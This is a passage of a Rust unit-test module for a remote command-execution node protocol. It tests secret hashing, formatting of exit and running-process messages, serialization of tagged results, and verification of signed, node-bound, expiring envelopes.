    fn node_secrets_verify_only_against_their_own_hash() {
        let stored = secret_hash(SECRET);
        assert!(verify_node_secret(SECRET, &stored));
        assert!(!verify_node_secret("guess", &stored));
        assert!(!verify_node_secret(&stored, &stored));
    }

    fn exit(tail: &str, exit_code: Option<i32>, signal: Option<&str>) -> ProcessExit {
        ProcessExit {
            node_id: "node-a".to_owned(),
            agent_id: "main".to_owned(),
            session_key: "agent:main:main".to_owned(),
            session_id: "swift-otter".to_owned(),
            exec_job_id: "job".to_owned(),
            command: "sleep 2; echo done".to_owned(),
            exit_code,
            signal: signal.map(str::to_owned),
            success: exit_code == Some(0) && signal.is_none(),
            tail: tail.to_owned(),
            started_at_ms: 1,
            ended_at_ms: 2,
            event_id: ProcessExit::event_id_for("node-a", "swift-otter"),
        }
    }

    #[test]
    fn exit_events_follow_vector_16() {
        assert_eq!(
            exit_event_text(&exit("done\n", Some(0), None), false).as_deref(),
            Some("Exec completed (swift-ot, code 0) :: done")
        );
        assert_eq!(exit_event_text(&exit(" \n", Some(0), None), false), None);
        assert_eq!(
            exit_event_text(&exit("", Some(0), None), true).as_deref(),
            Some("Exec completed (swift-ot, code 0)")
        );
        assert_eq!(
            exit_event_text(&exit("", Some(2), None), false).as_deref(),
            Some("Exec failed (swift-ot, code 2)")
        );
        assert_eq!(
            exit_event_text(&exit("bye\n\n  now", None, Some("SIGKILL")), false).as_deref(),
            Some("Exec failed (swift-ot, signal SIGKILL) :: bye now")
        );
        // Only the last 400 chars count, and the output is cut to 180 with an ellipsis.
        let long = format!("{}{}", "x".repeat(1_000), "y".repeat(400));
        let text = exit_event_text(&exit(&long, Some(0), None), false).unwrap();
        let output = text.split(" :: ").nth(1).unwrap();
        assert_eq!(output.chars().count(), 180);
        assert!(output.starts_with('y') && output.ends_with('…'), "{output}");
    }

    #[test]
    fn running_text_and_yield_clamp_follow_vector_14() {
        let running = RunningProcess {
            session_id: "swift-otter".to_owned(),
            pid: Some(42),
            started_at_ms: 1,
            cwd: None,
            tail: String::new(),
        };
        assert_eq!(
            running_text(&running),
            "Command still running (session swift-otter, pid 42). Use process (list/poll/log/write/kill/clear/remove) for follow-up."
        );
        let unknown = RunningProcess {
            pid: None,
            ..running
        };
        assert!(running_text(&unknown).contains("pid n/a"));
        assert_eq!(clamp_yield_ms(5), 10);
        assert_eq!(clamp_yield_ms(0), 0);
        assert_eq!(clamp_yield_ms(999_999), 120_000);
        assert_eq!(clamp_yield_ms(2_000), 2_000);
    }

    #[test]
    fn node_results_are_tagged_and_old_exec_reports_still_parse() {
        let report = ExecReport {
            job_id: "j".to_owned(),
            attempt: 0,
            node_id: "node-a".to_owned(),
            outcome: ExecOutcome::default(),
            denial: None,
            interrupted: false,
            duration_ms: 0,
            allow_always_entries: Vec::new(),
            files: Vec::new(),
            refused_files: Vec::new(),
            nonce: "n".to_owned(),
            sent_at_ms: 0,
            running: None,
        };
        let old_body = serde_json::to_string(&report).unwrap();
        assert!(!old_body.contains("running"), "absent when not running");
        let parsed: NodeResult = serde_json::from_str(&old_body).unwrap();
        assert_eq!(parsed, NodeResult::Exec(report.clone()));
        for result in [
            NodeResult::Exec(report),
            NodeResult::Exit(exit("done", Some(0), None)),
            NodeResult::Process(ProcessReport {
                job_id: "p".to_owned(),
                node_id: "node-a".to_owned(),
                ok: false,
                text: "No session found for x".to_owned(),
                details: serde_json::json!({"status": "failed"}),
            }),
        ] {
            let body = serde_json::to_string(&result).unwrap();
            assert!(body.contains("\"kind\":"), "{body}");
            assert_eq!(serde_json::from_str::<NodeResult>(&body).unwrap(), result);
        }
        for bad in [
            "[]",
            "1",
            r#"{"kind":"nope"}"#,
            r#"{"kind":7}"#,
            r#"{"kind":"exit"}"#,
        ] {
            assert!(serde_json::from_str::<NodeResult>(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn process_jobs_are_signed_and_checked_like_exec_jobs() {
        let job = ProcessJob {
            job_id: "p1".to_owned(),
            node_id: "node-a".to_owned(),
            agent_id: "main".to_owned(),
            session_key: "agent:main:main".to_owned(),
            call_id: "call_1".to_owned(),
            session_id: Some("swift-otter".to_owned()),
            action: "poll".to_owned(),
            args: serde_json::json!({"timeout": 5}),
            wait_ms: 5,
            deadline_ms: 2_000,
            issued_at_ms: 1_000,
            nonce: "pn".to_owned(),
        };
        let envelope = Envelope::seal(&NodeMessage::Process(job.clone()), &key()).unwrap();
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-a", 1_500),
            Ok(NodeMessage::Process(job))
        );
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-b", 1_500),
            Err(WireError::WrongNode("node-a".to_owned()))
        );
        assert_eq!(
            NodeMessage::open_for_node(&envelope, &key(), "node-a", 2_001),
            Err(WireError::Expired(2_000))
        );
    }

    #[test]
    fn malformed_envelopes_are_errors_not_panics() {
        for body in ["", "{}", "[1]", "{\"payload\":1}", "\u{0}"] {
            assert!(Envelope::parse(body).is_err(), "{body:?}");
        }
        let envelope = Envelope {
            payload: "not json".to_owned(),
            signature: sign(&key(), b"not json"),
        };
        assert!(matches!(
            envelope.open::<NodeMessage>(&key()),
            Err(WireError::Malformed(_))
        ));
        let bad_hex = Envelope {
            payload: "{}".to_owned(),
            signature: "zz".to_owned(),
        };
        assert_eq!(
            bad_hex.open::<NodeMessage>(&key()),
            Err(WireError::BadSignature)
        );
    }
}
